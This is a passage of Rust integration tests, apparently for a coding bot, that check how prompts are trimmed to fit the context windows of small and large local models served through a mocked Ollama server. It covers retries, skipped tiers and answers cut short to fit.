            ("local-small".into(), AttemptOutcome::ParseFailed),
            ("local-large".into(), AttemptOutcome::Passed)
        ],
        "the small tier was called, not refused"
    );
    let requests = world.ollama.completion_requests();
    assert_eq!(requests.len(), 2);
    let (small, large) = (&requests[0], &requests[1]);
    assert_eq!(small.model().as_deref(), Some(QWEN_7B));
    let (small_tokens, large_tokens) = (sent_tokens(small), sent_tokens(large));
    eprintln!(
        "prompt sent to the small tier: {small_tokens} tokens; to the large tier: {large_tokens}"
    );
    assert!(
        leaves_the_answer_room(small_tokens, SMALL_WINDOW, SMALL_ANSWER),
        "{small_tokens} tokens leave no room for {SMALL_ANSWER} in {SMALL_WINDOW}"
    );
    assert!(small.num_ctx().unwrap() <= u64::from(SMALL_WINDOW));
    assert!(
        !leaves_the_answer_room(large_tokens, SMALL_WINDOW, SMALL_ANSWER),
        "the whole package ({large_tokens} tokens) would not have fit the small window"
    );
    // The small tier kept the file the task names whole, lost part of the
    // extras, and was told so (elided lines, or a list of files left out).
    let (small_text, large_text) = (small.prompt_text(), large.prompt_text());
    assert!(small_text.contains(GREET.trim_end()), "{small_text}");
    let goodbyes = |text: &str| text.matches("Goodbye number").count();
    assert!(goodbyes(&small_text) < goodbyes(&large_text));
    let told = |text: &str| {
        text.matches("lines elided").count()
            + text
                .matches("# Left out to fit the model's context window")
                .count()
    };
    assert!(told(&small_text) > told(&large_text), "{small_text}");
    // The large tier got the package as built.
    for file in ["## src/greet.ts", "## src/farewell.ts", "## AGENTS.md"] {
        assert!(
            large_text.contains(file),
            "{file} missing for the large tier"
        );
    }
    assert!(!large_text.contains("Left out"));
    // The run says which tier got how much.
    assert_eq!(generation.packages.len(), 1, "{:?}", generation.packages);
    let fit = &generation.packages[0];
    assert_eq!((fit.tier, fit.model.as_str()), (1, "local-small"));
    assert_eq!(fit.context_window, SMALL_WINDOW);
    assert!(fit.tokens < fit.full_tokens, "{fit}");
    assert!(
        fit.to_string()
            .starts_with("tier 1 `local-small` (context_window 6144): context package of ")
    );
}

#[tokio::test]
async fn a_tiers_retries_keep_its_package_and_still_fit_its_window() {
    let world = World::start_with(&[("local-large", SMALL_WINDOW, SMALL_ANSWER)]).await;
    let dir = repo_with_extras();
    // A short wrong answer, then one long enough that the retry built on it
    // would not fit, then the fix.
    world.ollama.push(Step::reply("No edit blocks, sorry."));
    let rambling: String = (0..400)
        .map(|i| format!("Thinking step {i}: the greeting might need punctuation somewhere.\n"))
        .collect();
    world.ollama.push(Step::reply(rambling));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-large", 3)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        outcomes(&generation),
        [
            ("local-large".into(), AttemptOutcome::ParseFailed),
            ("local-large".into(), AttemptOutcome::ParseFailed),
            ("local-large".into(), AttemptOutcome::Passed)
        ]
    );
    let requests = world.ollama.completion_requests();
    assert_eq!(requests.len(), 3, "no retry was refused");
    let sizes: Vec<u32> = requests.iter().map(sent_tokens).collect();
    eprintln!("prompts sent to the small tier's three attempts: {sizes:?} tokens");
    for tokens in &sizes {
        assert!(
            leaves_the_answer_room(*tokens, SMALL_WINDOW, SMALL_ANSWER),
            "{sizes:?}"
        );
    }
    let (first, second, third) = (
        requests[0].messages(),
        requests[1].messages(),
        requests[2].messages(),
    );
    // The first retry fits as it is: the same system and task messages,
    // so the server's prompt cache holds.
    assert_eq!(first[..2], second[..2]);
    // The long answer could not be shown back whole: the package shrank
    // first (files left out), and the retry was sent all the same.
    assert_eq!(third[2].0, "assistant");
    assert!(third[1].1.len() < first[1].1.len(), "the package shrank");
    assert!(
        third[1]
            .1
            .contains("# Left out to fit the model's context window")
    );
    assert!(third[3].1.contains("did not work"), "{}", third[3].1);
    assert!(generation.packages.len() >= 2, "{:?}", generation.packages);
    assert!(generation.packages.iter().all(|p| p.tier == 1));
    let last = generation.packages.last().unwrap();
    assert!(
        last.left_out.contains(&"src/farewell.ts".to_string()),
        "{last}"
    );
}

#[tokio::test]
async fn a_window_too_small_for_any_package_skips_the_tier_with_the_reason() {
    let world = World::start_with(&[("local-small", 1280, 1024)]).await;
    let dir = repo();
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, route } = run(
        &world,
        &ladder(&[("local-small", 2), ("local-large", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(worker(&generation), "local-large");
    assert_eq!(
        outcomes(&generation),
        [
            ("local-small".into(), AttemptOutcome::SkippedWindow),
            ("local-large".into(), AttemptOutcome::Passed)
        ]
    );
    let requests = world.ollama.completion_requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].model().as_deref(), Some(QWEN_14B));
    let reason = generation.attempts[0].error.as_deref().unwrap();
    assert!(
        reason.contains("context_window 1280") && reason.contains("[models.local-small]"),
        "{reason}"
    );
    // Skipped calls are not attempts of the task.
    let record = generation.task_record(&route, "octo/hello", TITLE, "task-1");
    assert_eq!(record.attempts, 1);
}

#[tokio::test]
async fn a_retry_on_a_long_answer_cuts_the_answer_to_fit_instead_of_ending_the_ladder() {
    // The real run: first prompt + a long answer + errors came to more than
    // the window. The retry must still be sent, the answer shown in part.
    const WINDOW: u32 = 3584;
    const ANSWER: u32 = 1024;
    let world = World::start_with(&[("local-small", WINDOW, ANSWER)]).await;
    let dir = repo();
    let rambling: String = (0..120)
        .map(|i| format!("Step {i}: the greeting in src/greet.ts might need punctuation.\n"))
        .collect();
    world.ollama.push(Step::reply(rambling.clone()));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 2)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        outcomes(&generation),
        [
            ("local-small".into(), AttemptOutcome::ParseFailed),
            ("local-small".into(), AttemptOutcome::Passed)
        ]
    );
    let requests = world.ollama.completion_requests();
    assert_eq!(requests.len(), 2, "the retry was sent");
    let sizes: Vec<u32> = requests.iter().map(sent_tokens).collect();
    for tokens in &sizes {
        assert!(leaves_the_answer_room(*tokens, WINDOW, ANSWER), "{sizes:?}");
    }
    // Whole, the answer would not have fit beside the first prompt.
    let whole = sizes[0] + gitkeeper_bot::models::tokens::count_text(&rambling);
    assert!(!leaves_the_answer_room(whole, WINDOW, ANSWER), "{sizes:?}");
    let retry = requests[1].messages();
    assert_eq!(retry[2].0, "assistant");
    assert!(retry[2].1.starts_with("Step 0:"), "{}", retry[2].1);
    assert!(
        retry[2]
            .1
            .contains("of the previous answer left out to fit the model's context window"),
        "{}",
        retry[2].1
    );
    assert!(retry[3].1.contains("no edit blocks"), "{}", retry[3].1);
}
